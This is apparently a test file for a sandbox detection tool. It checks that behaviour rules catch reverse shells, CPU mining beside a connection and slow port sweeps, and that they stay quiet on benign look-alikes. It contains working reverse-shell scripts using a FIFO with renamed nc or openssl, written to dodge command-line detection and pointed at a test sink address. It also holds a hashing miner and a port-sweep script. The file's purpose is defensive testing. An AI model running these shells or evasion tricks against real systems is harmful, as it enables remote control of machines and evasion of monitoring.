// Detection by behaviour (issue 13 §2), with real processes in real sandboxes under the shipped
// rules, inside the test topology (nothing leaves the machine). Every malicious case is built
// so that no command line names it: scripts split across files, renamed copies of the tools.
// Each benign case is the look-alike the matching rule must not fire on.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { assertClean, assertContained, openHarness, type Harness } from './harness.ts';

const SINK = '203.0.113.50';
// T of the mining rule, tuned through its macros as a user would (shipped: 10 s), so a case
// runs in seconds. The benign cases run under the same small T, which makes them harder.
const TUNING_DIR = mkdtempSync('/tmp/pt-test-behaviour-');
const TUNING = `${TUNING_DIR}/tuning.yaml`;
writeFileSync(TUNING, `
- macro: mining_cpu_held
  condition: proc.cpu_saturated_ms >= 3000
  override: { condition: replace }
- macro: mining_connection_held
  condition: proc.net_conn_age_ms >= 3000
  override: { condition: replace }
`);
const POLICY = `
rules:
  files: ["${TUNING}"]
network:
  allow:
    - { cidr: "${SINK}/32", ports: [4444, 9001, 8443, 8444] }
    - { domain: "web.example.test", ports: [80] }
    - { domain: "api.example.test", ports: [80] }
`;

let h: Harness;
before(async () => { h = await openHarness(POLICY, { servers: ['web', 'dns', 'sink', 'internal', 'tls'] }); });
after(async () => { try { await h?.close(); } finally { rmSync(TUNING_DIR, { recursive: true, force: true }); } });

const SHELL_ANSWER = 'PRAETOR-SHELL-42';

/**
 * An attacker's listener on the sink's address in the fake internet (the topology's sink sends
 * its probe at once, which races any detection that starts at the connect): it sends the probe
 * 1.5 s after a client connects and prints whatever comes back, byte for byte (a print per
 * read put a newline into an answer split across two reads: "PRAETOR-SHELL-4\n2"). Bounded by timeoutMs.
 */
function listener(port: number, tls = false): Promise<{ stdout: string }> {
  const py = `import socket, ssl, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("${SINK}", ${port})); s.listen(1); s.settimeout(25)
try:
    c, _ = s.accept()
    if ${tls ? 'True' : 'False'}:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain("${h.t.tlsCertPath}", "${h.t.dir}/tls-key.pem")
        c = ctx.wrap_socket(c, server_side=True)
except OSError:
    raise SystemExit(0)
time.sleep(1.5)
try:
    c.sendall(b"echo PRAETOR-SHELL-$((6*7))\\n")
    c.settimeout(3)
    end = time.time() + 3
    while time.time() < end:
        d = c.recv(4096)
        if not d:
            break
        sys.stdout.write(d.decode(errors="replace")); sys.stdout.flush()
except OSError:
    pass
`;
  return h.t.execInInet('python3', ['-c', py], { timeoutMs: 35_000 });
}

// ---------------------------------------------------------------- reverse shells by wiring

test('FIFO + sh + renamed openssl s_client to a TLS listener: the wiring is caught, no shell answers', async () => {
  const tls = listener(8443, true);
  await new Promise((r) => setTimeout(r, 300));
  // Split into a script so no command line holds mkfifo and the TLS client together; the TLS
  // client is a renamed copy.
  const job = `cp /usr/bin/openssl /tmp/upd
rm -f /tmp/q; mkfifo /tmp/q
sh -i </tmp/q 2>&1 | /tmp/upd s_client -quiet -connect ${SINK}:8443 >/tmp/q
`;
  const c = await h.run('rs-fifo-openssl', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--timeout', '20'] });
  const a = assertContained(c, 'Shell or interpreter looped to a remote host through pipes');
  assert.match(String(a.output), /203\.0\.113\.50:8443/);
  const ev = c.rep.events.find((e) => (a.evidence as string[]).includes(e.id));
  assert.equal(ev?.kind, 'process.stdio');
  assert.equal(ev?.comm, 'sh');
  assert.ok(c.rep.durationMs < 15_000, `contained, not timed out: ${c.rep.durationMs} ms`);
  const heard = await tls;
  assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered the TLS listener: ${heard.stdout.slice(0, 400)}`);
});

test('control: the same FIFO + renamed TLS client shell answers the TLS listener when praetor does not detect', async () => {
  const tls = listener(8443, true);
  await new Promise((r) => setTimeout(r, 300));
  const job = `cp /usr/bin/openssl /tmp/upd
rm -f /tmp/q; mkfifo /tmp/q
sh -i </tmp/q 2>&1 | /tmp/upd s_client -quiet -connect ${SINK}:8443 >/tmp/q
`;
  const c = await h.run('rs-fifo-openssl-control', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--no-detect', '--timeout', '12'] });
  assert.equal(c.rep.contained, false);
  const heard = await tls;
  assert.ok(heard.stdout.includes(SHELL_ANSWER), `the shell answered through TLS: ${heard.stdout.slice(0, 400)}`);
});

test('cat FIFO | sh | renamed nc >FIFO (two hops): caught, no shell answers', async () => {
  const l = listener(8444);
  await new Promise((r) => setTimeout(r, 300));
  const job = `cp "$(readlink -f /usr/bin/nc)" /tmp/sync
rm -f /tmp/p; mkfifo /tmp/p
cat /tmp/p | sh -i 2>&1 | /tmp/sync ${SINK} 8444 >/tmp/p
`;
  const c = await h.run('rs-fifo-nc', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--timeout', '20'] });
  assertContained(c, 'Shell or interpreter looped to a remote host through pipes');
  const heard = await l;
  assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered: ${heard.stdout.slice(0, 400)}`);
});

test('the shell renamed too (cat FIFO | renamed sh | renamed nc): the stdio rule knows it by its identity', async () => {
  const l = listener(8444);
  await new Promise((r) => setTimeout(r, 300));
  const job = `cp "$(readlink -f /usr/bin/nc)" /tmp/sync; cp "$(readlink -f /bin/sh)" /tmp/indexer
rm -f /tmp/p; mkfifo /tmp/p
cat /tmp/p | /tmp/indexer -i 2>&1 | /tmp/sync ${SINK} 8444 >/tmp/p
`;
  const c = await h.run('rs-fifo-renamed-sh', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--timeout', '20'] });
  const a = assertContained(c, /Shell or interpreter looped to a remote host through pipes|Shell stdio reaches the network/);
  const stdio = c.rep.events.find((e) => (a.evidence as string[]).includes(e.id) && e.kind === 'process.stdio');
  assert.ok(stdio && ['dash', 'sh', 'bash'].includes(String(stdio.tool)), `the wired process is known as a shell: ${JSON.stringify(stdio)}`);
  const heard = await l;
  assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered: ${heard.stdout.slice(0, 400)}`);
});

test('control: the same FIFO + renamed nc shell answers the listener when praetor does not detect', async () => {
  // Proves the case above can fail: with detection off, this exact wiring is a working shell.
  const l = listener(8444);
  await new Promise((r) => setTimeout(r, 300));
  const job = `cp "$(readlink -f /usr/bin/nc)" /tmp/sync
rm -f /tmp/p; mkfifo /tmp/p
cat /tmp/p | sh -i 2>&1 | /tmp/sync -q 1 ${SINK} 8444 >/tmp/p
`;
  const c = await h.run('rs-fifo-nc-control', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--no-detect', '--timeout', '12'] });
  assert.equal(c.rep.contained, false);
  const heard = await l;
  assert.ok(heard.stdout.includes(SHELL_ANSWER), `the shell answered: ${heard.stdout.slice(0, 400)}`);
});

test('a python relay driving sh over pipes on its own fds: alerted (supervisor wiring), not contained', async () => {
  // The weaker form: the socket holder reaches the shell's pipes on fds >= 3, as any program
  // driving a child does. The incubating rule alerts; the run is not killed.
  const relay = `import socket, subprocess, time
s = socket.create_connection(("${SINK}", 9001))
p = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
time.sleep(3)
p.kill()
print("relay done")
`;
  const c = await h.run('rs-supervisor', ['python3', 'relay.py'], { files: { 'relay.py': relay }, flags: ['--timeout', '20'] });
  const alert = c.rep.alerts.find((a) => a.rule === 'Shell or interpreter wired to the network through other processes');
  assert.ok(alert, JSON.stringify(c.rep.alerts.map((a) => a.rule)));
  assert.deepEqual(alert.actions, ['alert']);
  assert.ok(!c.rep.alerts.some((a) => a.rule === 'Shell or interpreter looped to a remote host through pipes'), 'not the stable rule');
  assert.match(c.r.stdout, /relay done/);
});

test('benign: ls | grep, and a local client/server over a FIFO, beside an open connection', async () => {
  // A long-lived allowed connection is open the whole time, so the graph is scanned, and the
  // shells' pipes lead nowhere near it.
  const job = `python3 -c 'import socket,time; s=socket.create_connection(("web.example.test",80)); s.sendall(b"GET / HTTP/1.1\\r\\nHost: web.example.test\\r\\n\\r\\n"); time.sleep(4)' &
sleep 0.5
ls / | grep -c usr
rm -f /tmp/srv; mkfifo /tmp/srv
( while read -r line; do echo "got $line"; done </tmp/srv ) > out.txt &
sh -c 'for i in 1 2 3; do echo req$i; sleep 0.3; done' >/tmp/srv
wait
cat out.txt
`;
  const c = await h.run('benign-pipes', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--timeout', '30'] });
  assertClean(c);
  assert.match(c.r.stdout, /got req3/);
});

// ---------------------------------------------------------------- mining by behaviour

// --cpus 0.1: "saturated" is >= 80 % of min(quota, one CPU), and on this shared 2-core host a
// process often gets a third of a CPU at most; a small quota it can always fill keeps the
// cases about the rule, not about the host's load.
const CPUS = ['--cpus', '0.1'];

/** An HTTP keep-alive exchange every second on one connection, from a thread. */
const KEEPALIVE = `import socket, threading, time
s = socket.create_connection(("web.example.test", 80))
def keepalive():
    while True:
        s.sendall(b"GET /?ping HTTP/1.1\\r\\nHost: web.example.test\\r\\n\\r\\n")
        s.recv(65536)
        time.sleep(1)
threading.Thread(target=keepalive, daemon=True).start()
`;

test('python3 hashing loop at full CPU beside a keep-alive connection: killed, named by process', async () => {
  const miner = `${KEEPALIVE}
import hashlib
n, end = 0, time.time() + 40
while time.time() < end:
    hashlib.sha256(n.to_bytes(8, "little")).digest()
    n += 1
print("hashed", n)
`;
  const c = await h.run('cpu-keepalive', ['python3', 'work.py'], { files: { 'work.py': miner }, flags: [...CPUS, '--timeout', '60'], timeoutMs: 90_000 });
  const a = assertContained(c, 'Process at full CPU beside a quiet long-lived connection');
  const ev = c.rep.events.find((e) => (a.evidence as string[]).includes(e.id));
  assert.equal(ev?.kind, 'process.cpu');
  assert.equal(ev?.comm, 'python3', 'the alert names the hashing process');
  assert.ok((ev?.netPeers as string[]).includes('203.0.113.10:80'), JSON.stringify(ev));
  assert.equal(ev?.netPerSocket, true, `the volume is the connection's own (tcp_info): ${JSON.stringify(ev)}`);
  assert.ok(c.rep.containment.some((x) => x.action === 'kill-tree' && x.ok), JSON.stringify(c.rep.containment));
  assert.ok(!c.r.stdout.includes('hashed'), 'killed before its 40 s of hashing ended');
});

test('benign: a long CPU-bound loop with no connection', async () => {
  const work = 'import time\nn, end = 0, time.time() + 9\nwhile time.time() < end:\n    n = (n * 6364136223846793005 + 1) % (1 << 64)\nprint("done")\n';
  const c = await h.run('cpu-no-conn', ['python3', 'work.py'], { files: { 'work.py': work }, flags: [...CPUS, '--timeout', '40'] });
  assertClean(c);
  assert.ok(c.rep.events.some((e) => e.kind === 'process.cpu' && e.comm === 'python3' && (e.saturatedMs as number) >= 3000),
    'the loop was seen saturated for longer than T (so the rule was really evaluated)');
});

test('benign: a package-manager-like parent downloads, then its build child pins the CPU', async () => {
  // The parent keeps its pool connection open (as pip and npm do) but is idle while the child
  // builds: traffic is judged over the saturated time only, so this is not a pool.
  const pm = `import socket, subprocess, sys
s = socket.create_connection(("web.example.test", 80))
def get(path):
    s.sendall(f"GET {path} HTTP/1.1\\r\\nHost: web.example.test\\r\\n\\r\\n".encode()); s.recv(65536)
get("/simple/pkg-a/")
get("/simple/pkg-b/")
subprocess.run([sys.executable, "-c", "import time\\nend = time.time() + 8\\nwhile time.time() < end: pass"], check=True)
get("/simple/pkg-c/")
print("installed")
`;
  const c = await h.run('pm-build', ['python3', 'pm.py'], { files: { 'pm.py': pm }, flags: [...CPUS, '--timeout', '40'] });
  assertClean(c);
  assert.match(c.r.stdout, /installed/);
  assert.ok(c.rep.events.some((e) => e.kind === 'process.cpu' && (e.netConns as number) > 0 && (e.saturatedMs as number) >= 3000),
    'the build child was seen saturated with its parent\'s connection in its tree');
});

test('benign: a websocket-style long connection with no CPU', async () => {
  const idle = `${KEEPALIVE}
time.sleep(9)
print("done")
`;
  const c = await h.run('conn-no-cpu', ['python3', 'idle.py'], { files: { 'idle.py': idle }, flags: [...CPUS, '--timeout', '40'] });
  assertClean(c);
  assert.match(c.r.stdout, /done/);
});

// ---------------------------------------------------------------- long-horizon sweeps

test('port sweep slowed to one port a second (below the 10 s rule): isolated', async () => {
  const sweep = `import socket, time
for port in range(1, 41):
    s = socket.socket()
    s.settimeout(0.3)
    try:
        s.connect(("10.99.0.10", port))
    except Exception:
        pass
    finally:
        s.close()
    time.sleep(1)
print("swept")
`;
  const c = await h.run('slow-sweep', ['python3', 'sweep.py'], { files: { 'sweep.py': sweep }, flags: ['--timeout', '60'], timeoutMs: 90_000 });
  assertContained(c, 'Slow internal port sweep');
  assert.ok(!c.rep.alerts.some((a) => a.rule === 'Internal port sweep'), 'the 10 s rule alone would have missed it');
  assert.ok(c.rep.containment.some((x) => x.action === 'isolate' && x.ok), JSON.stringify(c.rep.containment));
  assert.ok(!c.r.stdout.includes('swept'), 'stopped before the sweep finished');
});

test('benign: a local load test, 400 requests on two loopback ports', async () => {
  // The arena's own look-alike script (scenarios/benign-local-load-test.yaml), fewer requests.
  const load = readFileSync(new URL('../../scenarios/scripts/local-load-test.py', import.meta.url), 'utf8');
  const c = await h.run('load-test', ['python3', 'load.py', '400'], { files: { 'load.py': load }, flags: ['--timeout', '60'], timeoutMs: 90_000 });
  assertClean(c);
  assert.match(c.r.stdout, /ok 400/);
});
